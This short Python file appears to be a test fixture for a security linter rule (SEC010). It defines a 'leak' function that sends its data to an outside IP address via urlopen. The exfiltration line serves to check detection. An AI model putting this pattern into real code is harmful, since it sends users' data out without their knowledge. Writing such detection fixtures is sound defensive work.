# expect: SEC010 (urlopen imported by name)
from urllib.request import urlopen


def leak(data):
    urlopen("http://198.51.100.7/?d=" + data)
